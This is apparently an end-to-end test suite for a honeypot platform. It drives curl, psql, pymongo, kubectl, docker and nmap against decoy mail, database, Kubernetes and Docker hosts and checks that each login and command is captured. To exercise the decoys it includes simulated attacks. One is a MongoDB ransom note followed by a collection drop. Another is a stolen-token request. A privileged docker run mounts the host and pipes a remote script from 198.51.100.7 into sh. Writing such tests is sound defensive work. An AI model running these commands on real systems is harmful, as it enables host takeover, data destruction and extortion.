/**
 * Data, web and cloud deckies against the stock Debian clients, run from the lab fleet's
 * attacker namespace: curl (https, imaps, pop3s, smtp STARTTLS, elasticsearch, the
 * Kubernetes API), openssl s_client,  psql, python3-pymongo, kubectl, the docker CLI with
 * -H, and nmap (-sV, ssl-cert, mongodb-info). Each client sees the version of the decky's
 * persona, TLS ports speak TLS with the decky's one certificate (the same on every mail
 * port and after a restart), and every credential, token and command is in
 * `decnetctl events`. One fleet (e2data, 10.239.0.0/24), applied once; host id e2e-data.
 */
import { createHash } from 'node:crypto';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ROOT, containers, decnetctl, docker, tempDir, until, type RunResult } from './lib/cli.js';
import { fleetEvents } from './lib/fleet-events.js';
import { labFleet } from './lib/lab-fleet.js';

const FLEET = 'e2data';
const MAIL = '10.239.0.11';
const DB = '10.239.0.12';
const CLOUD = '10.239.0.13';
const LEGACY = '10.239.0.14';
const SRC = '10.239.0.1';
const VERSION = (JSON.parse(readFileSync(join(ROOT, 'package.json'), 'utf8')) as { version: string }).version;
const IMAGE = process.env['DECNET_BASE_IMAGE'] ?? `decnet/runtime-base:${VERSION}`;
const ENV = { DECNET_HOST_ID: 'e2e-data', DECNET_STATE_DIR: tempDir('e2data-state'), DECNET_BASE_IMAGE: IMAGE, DECNET_IMAGE_BASE: process.env['DECNET_IMAGE_BASE'] ?? IMAGE };
const PY = '/usr/bin/python3';
const CLIENTS = ['nmap', 'curl', 'openssl', 'psql', 'kubectl', 'docker', PY];

const MANIFEST = `apiVersion: decnet.io/v1alpha1
kind: Fleet
metadata: { name: ${FLEET} }
spec:
  network: { subnet: 10.239.0.0/24, gateway: ${SRC} }
  lab: true
---
apiVersion: decnet.io/v1alpha1
kind: Decky
metadata: { name: e2d-mail }
spec:
  fleet: ${FLEET}
  ip: ${MAIL}
  hostname: mail-01
  nmapOS: linux
  services: [https, imap, pop3, smtp]
  serviceConfig:
    imap: { users: "alice:Winter2026!" }
    pop3: { users: "alice:Winter2026!" }
---
apiVersion: decnet.io/v1alpha1
kind: Decky
metadata: { name: e2d-db }
spec:
  fleet: ${FLEET}
  ip: ${DB}
  hostname: db-01
  nmapOS: linux
  services: [postgres, mongodb, elasticsearch]
  serviceConfig:
    postgres: { pg_version: "15.6" }
    mongodb: { mongo_version: "6.0.14" }
    elasticsearch: { es_version: "7.10.2", cluster_name: prod-search }
---
apiVersion: decnet.io/v1alpha1
kind: Decky
metadata: { name: e2d-legacy }
spec:
  fleet: ${FLEET}
  ip: ${LEGACY}
  hostname: pg-legacy
  nmapOS: linux
  services: [postgres]
  serviceConfig:
    postgres: { pg_version: "13.14" }
---
apiVersion: decnet.io/v1alpha1
kind: Decky
metadata: { name: e2d-cloud }
spec:
  fleet: ${FLEET}
  ip: ${CLOUD}
  hostname: kube-cp-01
  nmapOS: linux
  services: [k8s, docker_api]
  serviceConfig:
    k8s: { k8s_version: v1.28.6 }
    docker_api: { docker_version: "24.0.7" }
`;

const ctl = (args: string[], timeoutMs?: number) => decnetctl(args, { env: ENV, timeoutMs });
/** A command run inside the fleet's attacker namespace, as a user would. */
const lab = (cmd: string[], timeoutMs = 120_000) => ctl(['lab', 'exec', FLEET, '--', ...cmd], timeoutMs);
const sh = (script: string, timeoutMs?: number) => lab(['sh', '-c', script], timeoutMs);
const out = (r: RunResult) => `${r.stdout}\n${r.stderr}`;
const nmap = (...args: string[]) => lab(['nmap', '-Pn', '-n', ...args], 240_000);
const curl = (...args: string[]) => lab(['curl', '-sS', '--max-time', '15', ...args]);

const { expectEvent } = fleetEvents(ctl, FLEET);

/** SHA-256 fingerprint of the certificate a TLS port presents (`starttls`: openssl's -starttls protocol). */
async function certFingerprint(ip: string, port: number, starttls?: string): Promise<string> {
  const r = await sh(`openssl s_client -connect ${ip}:${port} ${starttls ? `-starttls ${starttls}` : ''} </dev/null 2>/dev/null | openssl x509 -noout -fingerprint -sha256`);
  const m = /Fingerprint=([0-9A-F:]+)/i.exec(r.stdout);
  expect(m, out(r)).not.toBeNull();
  return m![1]!;
}

const fleet = labFleet(ctl, FLEET, MANIFEST, { clients: CLIENTS, image: IMAGE, services: 10 });
beforeAll(() => fleet.up(), 900_000);
afterAll(() => fleet.down(), 300_000);

describe('idle cost', () => {
  it('each data and cloud service container idles well under its memory limit (recorded in BENCHMARKS.md)', async () => {
    const names = (await containers(`com.decnet.fleet=${FLEET}`)).filter((c) => c.labels['com.decnet.role'] === 'service').map((c) => c.name).sort();
    const stats = (await docker('stats', '--no-stream', '--format', '{{.Name}} {{.MemUsage}}', ...names)).trim().split('\n');
    console.log(`[data idle memory] ${stats.join('; ')}`);
    for (const line of stats) {
      const m = /^(\S+) ([\d.]+)(KiB|MiB|GiB)/.exec(line);
      expect(m, line).not.toBeNull();
      const mib = Number(m![2]) * (m![3] === 'GiB' ? 1024 : m![3] === 'KiB' ? 1 / 1024 : 1);
      expect(mib, line).toBeLessThan(96);
    }
  });
});

describe('nmap -sV names every service', () => {
  it('the mail host: ssl/http, imap, ssl/imap, pop3, ssl/pop3, smtp', async () => {
    const o = out(await nmap('-sV', '-p', '443,143,993,110,995,25', '--script', 'ssl-cert', MAIL));
    expect(o).toMatch(/443\/tcp\s+open\s+ssl\/http\s+Apache httpd/);
    expect(o).toMatch(/143\/tcp\s+open\s+imap\s+Dovecot imapd/);
    expect(o).toMatch(/993\/tcp\s+open\s+ssl\/imap\s+Dovecot imapd/);
    expect(o).toMatch(/110\/tcp\s+open\s+pop3\s+Dovecot pop3d/);
    expect(o).toMatch(/995\/tcp\s+open\s+ssl\/pop3\s+Dovecot pop3d/);
    expect(o).toMatch(/25\/tcp\s+open\s+smtp\s+Postfix smtpd/);
    expect(o).toContain('Subject: commonName=mail-01');
    expect(o.split('\n').filter((l) => /^\d+\/tcp/.test(l)).filter((l) => l.includes('?'))).toEqual([]);
  });

  it('the database host: PostgreSQL, MongoDB 6.0.14, Elasticsearch 7.10.2', async () => {
    const o = out(await nmap('-sV', '-p', '5432,27017,9200', '--script', 'mongodb-info', DB));
    expect(o).toMatch(/5432\/tcp\s+open\s+postgresql\s+PostgreSQL DB/);
    expect(o).toMatch(/27017\/tcp\s+open\s+mongodb\s+MongoDB 6\.0\.14/);
    expect(o).toMatch(/9200\/tcp\s+open\s+http\s+Elasticsearch REST API 7\.10\.2/);
    expect(o).toMatch(/mongodb-info:[\s\S]*version = 6\.0\.14/);
  });

  it('the cloud host: the Kubernetes API over TLS and the Docker engine', async () => {
    const o = out(await nmap('-sV', '-p', '6443,2375,2376', '--script', 'docker-version', CLOUD));
    expect(o).toMatch(/6443\/tcp\s+open\s+ssl\//);
    expect(o).toMatch(/2375\/tcp\s+open\s+docker\s+Docker 24\.0\.7 \(API 1\.43\)/);
    expect(o).toMatch(/2376\/tcp\s+open\s+ssl\/docker\s+Docker 24\.0\.7 \(API 1\.43\)/);
    expect(o).toContain('GoVersion: go1.20.10');
  });
});

describe('mail: https, imap, pop3 and smtp share one certificate', () => {
  it('443, 993, 995 and STARTTLS on 143, 110 and 25 present the same certificate, and a restart keeps it', async () => {
    const fp = await certFingerprint(MAIL, 443);
    expect(await certFingerprint(MAIL, 993)).toBe(fp);
    expect(await certFingerprint(MAIL, 995)).toBe(fp);
    expect(await certFingerprint(MAIL, 143, 'imap')).toBe(fp);
    expect(await certFingerprint(MAIL, 110, 'pop3')).toBe(fp);
    expect(await certFingerprint(MAIL, 25, 'smtp')).toBe(fp);
    const imap = (await containers(`com.decnet.decky=e2d-mail`)).find((c) => c.labels['com.decnet.service'] === 'imap')!;
    await docker('restart', imap.name);
    await until(async () => (await sh(`openssl s_client -connect ${MAIL}:993 </dev/null 2>/dev/null | grep -c BEGIN`)).stdout.trim() === '1', 60_000, 1000);
    expect(await certFingerprint(MAIL, 993)).toBe(fp);
  });

  it('curl imaps:// reads the fake mailbox of an accepted user; the login and the JA4 are events', async () => {
    const r = await curl('-k', '-u', 'alice:Winter2026!', `imaps://${MAIL}/INBOX;UID=3`);
    expect(r.code, out(r)).toBe(0);
    expect(r.stdout).toContain('Subject: Re: reporting database');
    await expectEvent({ decky: 'e2d-mail', service: 'imap', event: 'auth_attempt', principal: 'alice', secret: 'Winter2026!', success: true, src_ip: SRC });
    await expectEvent({ decky: 'e2d-mail', service: 'imap', event: 'connection', tls: true }, (e) => /^t1[23]i/.test(String(e['ja4'])));
  });

  it('curl pop3s:// lists the same mail; a wrong password is refused and captured', async () => {
    const r = await curl('-k', '-u', 'alice:Winter2026!', `pop3s://${MAIL}/`);
    expect(r.code, out(r)).toBe(0);
    expect(r.stdout.trim().split(/\r?\n/)).toHaveLength(4);
    const bad = await curl('-k', '-u', 'bob:hunter2', `pop3s://${MAIL}/`);
    expect(bad.code).not.toBe(0);
    await expectEvent({ decky: 'e2d-mail', service: 'pop3', event: 'auth_attempt', principal: 'bob', secret: 'hunter2', success: false, tls: true });
  });

  it('smtp STARTTLS: AUTH inside TLS is captured with the ClientHello fingerprint', async () => {
    const r = await curl('--ssl-reqd', '-k', '-u', 'ops:Relay-2026', '--mail-from', 'ops@example.org', '--mail-rcpt', 'ceo@example.org', '-T', '/dev/null', `smtp://${MAIL}`);
    expect(out(r)).toMatch(/535|Login denied/);
    await expectEvent({ decky: 'e2d-mail', service: 'smtp', event: 'tls_handshake', starttls: true }, (e) => /^[0-9a-f]{32}$/.test(String(e['ja3_hash'])));
    await expectEvent({ decky: 'e2d-mail', service: 'smtp', event: 'auth_attempt', principal: 'ops', secret: 'Relay-2026' });
  });

  it('https: a Basic-auth login on 443 is captured', async () => {
    const r = await curl('-k', '-u', 'admin:P@ssw0rd', `https://${MAIL}/`);
    expect(r.code, out(r)).toBe(0);
    await expectEvent({ decky: 'e2d-mail', service: 'https', event: 'auth_attempt', principal: 'admin', secret_kind: 'http_basic', secret: 'P@ssw0rd' });
  });
});

describe('postgres: scram-sha-256 on 15, md5 on 13', () => {
  it('psql gets the real FATAL over TLS and plain; the SCRAM exchange is captured', async () => {
    for (const mode of ['require', 'disable']) {
      const r = await sh(`PGPASSWORD='Db-Pass-1' PGCONNECT_TIMEOUT=10 psql "host=${DB} user=alice dbname=prod sslmode=${mode}" -c 'select 1'`);
      expect(out(r)).toContain(`connection to server at "${DB}", port 5432 failed: FATAL:  password authentication failed for user "alice"`);
    }
    await expectEvent({ decky: 'e2d-db', service: 'postgres', event: 'auth_attempt', principal: 'alice', secret_kind: 'postgres_scram' });
    await expectEvent({ decky: 'e2d-db', service: 'postgres', event: 'tls_handshake', starttls: true });
  });

  it('a 13.x server asks for md5 and the capture is a hashcat 11100 line of the password', async () => {
    const r = await sh(`PGPASSWORD='Legacy-Pw' PGCONNECT_TIMEOUT=10 psql "host=${LEGACY} user=bob dbname=app sslmode=disable" -c 'select 1'`);
    expect(out(r)).toContain('FATAL:  password authentication failed for user "bob"');
    const ev = await expectEvent({ decky: 'e2d-legacy', service: 'postgres', event: 'auth_attempt', principal: 'bob', secret_kind: 'postgres_md5' });
    const [, user, salt, hash] = /^\$postgres\$([^*]+)\*([0-9a-f]{8})\*([0-9a-f]{32})$/.exec(String(ev['hashcat']))!;
    const inner = createHash('md5').update('Legacy-Pw' + user).digest('hex');
    expect(createHash('md5').update(Buffer.concat([Buffer.from(inner), Buffer.from(salt!, 'hex')])).digest('hex')).toBe(hash);
  });
});

describe('mongodb: an open 6.0 server', () => {
  it('pymongo lists databases, reads and writes; a ransom note and a drop are events', async () => {
    const script = [
      'import pymongo',
      `c = pymongo.MongoClient("mongodb://${DB}:27017/", serverSelectionTimeoutMS=8000)`,
      'print("version", c.server_info()["version"])',
      'print("dbs", ",".join(sorted(c.list_database_names())))',
      'db = c["customers"]',
      'print("docs", len(list(db[db.list_collection_names()[0]].find().limit(3))))',
      'db["README"].insert_one({"note": "All your data is backed up. Send 0.05 BTC to bc1qexample to restore."})',
      'db.drop_collection(db.list_collection_names()[0])',
      'print("done")',
    ].join('\n');
    const r = await lab([PY, '-c', script]);
    expect(r.code, out(r)).toBe(0);
    expect(r.stdout).toContain('version 6.0.14');
    expect(r.stdout).toMatch(/dbs admin,config,customers,local/);
    expect(r.stdout).toContain('done');
    await expectEvent({ decky: 'e2d-db', service: 'mongodb', event: 'command', command: 'insert' });
    await expectEvent({ decky: 'e2d-db', service: 'mongodb', event: 'command', command: 'drop' });
  });

  it('a SCRAM login fails like MongoDB and the conversation is captured', async () => {
    const r = await lab([PY, '-c', `import pymongo\ntry:\n  pymongo.MongoClient("mongodb://root:Mongo-Pw1@${DB}:27017/admin", serverSelectionTimeoutMS=8000).admin.command("ping")\nexcept Exception as e:\n  print(type(e).__name__, e)`]);
    expect(r.stdout).toMatch(/OperationFailure.*Authentication failed/);
    await expectEvent({ decky: 'e2d-db', service: 'mongodb', event: 'auth_attempt', principal: 'root', secret_kind: 'mongodb_scram' });
  });
});

describe('elasticsearch: prod-search 7.10.2', () => {
  it('curl reads /, _cat/indices and a search; Basic credentials are captured', async () => {
    const root = JSON.parse((await curl(`http://${DB}:9200/`)).stdout) as { cluster_name: string; version: { number: string } };
    expect(root.cluster_name).toBe('prod-search');
    expect(root.version.number).toBe('7.10.2');
    const cat = await curl(`http://${DB}:9200/_cat/indices?v`);
    expect(cat.stdout).toMatch(/health\s+status\s+index/);
    const s = await curl('-u', 'elastic:changeme', `http://${DB}:9200/_search?q=password`);
    expect(s.stdout).toContain('"hits"');
    await expectEvent({ decky: 'e2d-db', service: 'elasticsearch', event: 'auth_attempt', principal: 'elastic', secret_kind: 'http_basic', secret: 'changeme' });
    await expectEvent({ decky: 'e2d-db', service: 'elasticsearch', event: 'request', method: 'GET' }, (e) => String(e['path']).startsWith('/_search'));
  });
});

describe('k8s: an anonymous client and a stolen token', () => {
  // kubectl prompts for a user name when its kubeconfig names no user; a Basic login (which
  // kube-apiserver no longer authenticates: the caller stays system:anonymous) avoids it
  const dir = tempDir('e2data-kube');
  const kc = join(dir, 'config');
  writeFileSync(kc, 'apiVersion: v1\nkind: Config\nclusters:\n- name: c\n  cluster: {server: "https://127.0.0.1:1"}\nusers:\n- name: u\n  user: {username: admin, password: admin}\ncontexts:\n- name: x\n  context: {cluster: c, user: u}\ncurrent-context: x\n');
  const kubectl = (...args: string[]) => lab(['kubectl', '--server', `https://${CLOUD}:6443`, '--insecure-skip-tls-verify', '--cache-dir', join(dir, 'cache'), '--request-timeout', '10s', ...args], 60_000);

  it('kubectl version shows the persona, get pods is forbidden for system:anonymous', async () => {
    const v = await kubectl('--kubeconfig', kc, 'version', '-o', 'json');
    expect((JSON.parse(v.stdout) as { serverVersion: { gitVersion: string } }).serverVersion.gitVersion).toBe('v1.28.6');
    const p = await kubectl('--kubeconfig', kc, 'get', 'pods');
    expect(out(p)).toContain('Error from server (Forbidden): pods is forbidden: User "system:anonymous" cannot list resource "pods" in API group "" in the namespace "default"');
    await expectEvent({ decky: 'e2d-cloud', service: 'k8s', event: 'request', method: 'GET' }, (e) => String(e['path']).includes('/api/v1/namespaces/default/pods'));
  });

  it('a bearer token is refused as Unauthorized and lands in the events', async () => {
    const r = await kubectl('--kubeconfig', '/dev/null', '--token', 'eyJhbGciOiJSUzI1NiJ9.stolen.sig', 'get', 'secrets', '-A');
    // kubectl >= 1.26 words the 401 of its discovery request generically; older ones print (Unauthorized)
    expect(out(r)).toMatch(/error: You must be logged in to the server \((Unauthorized|the server has asked for the client to provide credentials)\)/);
    await expectEvent({ decky: 'e2d-cloud', service: 'k8s', event: 'auth_attempt', secret_kind: 'bearer_token', secret: 'eyJhbGciOiJSUzI1NiJ9.stolen.sig' });
  });

  it('curl -k on 6443 sees the kubeadm certificate (issuer kubernetes)', async () => {
    const r = await sh(`openssl s_client -connect ${CLOUD}:6443 </dev/null 2>/dev/null | openssl x509 -noout -subject -issuer`);
    expect(r.stdout).toMatch(/subject=CN ?= ?kube-apiserver/);
    expect(r.stdout).toMatch(/issuer=CN ?= ?kubernetes/);
  });
});

describe('docker_api: an exposed engine', () => {
  const cfg = tempDir('e2data-docker');
  const dockerH = (args: string) => sh(`DOCKER_CONFIG=${cfg} DOCKER_HOST= docker -H tcp://${CLOUD}:2375 ${args}`, 90_000);

  it('docker -H version and ps show the persona\'s engine', async () => {
    const v = await dockerH('version --format "{{.Server.Version}} {{.Server.APIVersion}}"');
    expect(v.stdout.trim()).toBe('24.0.7 1.43');
    const ps = await dockerH('ps');
    expect(ps.stdout).toMatch(/^CONTAINER ID\s+IMAGE/);
    await expectEvent({ decky: 'e2d-cloud', service: 'docker_api', event: 'request', docker_op: 'container_list', src_ip: SRC });
  });

  it('docker run of a miner with the host mounted: create and pull are recorded, the pull fails, nothing runs', async () => {
    const r = await dockerH('run --rm --privileged -v /:/host alpine:3.19 chroot /host sh -c "curl -s http://198.51.100.7/x.sh | sh"');
    expect(r.code).not.toBe(0);
    expect(r.stderr).toContain('Error response from daemon: Get "https://registry-1.docker.io/v2/"');
    const c = await expectEvent({ decky: 'e2d-cloud', service: 'docker_api', event: 'request', docker_op: 'container_create', image: 'alpine:3.19', privileged: true });
    expect(String(c['technique'])).toContain('host_mount');
    await expectEvent({ decky: 'e2d-cloud', service: 'docker_api', event: 'request', docker_op: 'image_pull', image: 'alpine:3.19' });
  });

  it('2376 speaks TLS with the same engine behind it', async () => {
    const v = await curl('-k', `https://${CLOUD}:2376/version`);
    expect((JSON.parse(v.stdout) as { Version: string }).Version).toBe('24.0.7');
  });
});
